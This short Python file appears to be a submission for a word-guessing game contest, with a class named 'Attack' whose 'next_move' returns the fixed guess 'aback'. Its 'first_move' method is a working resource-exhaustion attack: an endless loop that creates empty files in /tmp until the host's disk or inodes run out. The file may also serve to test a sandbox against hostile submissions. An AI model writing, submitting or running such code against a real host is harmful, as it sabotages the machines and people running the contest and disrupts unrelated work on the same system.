"""Makes files without end, of nothing but names."""

import os


class Attack:
    def first_move(self):
        at = 0
        while True:
            at += 1
            os.close(os.open(f"/tmp/{at}", os.O_CREAT))

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
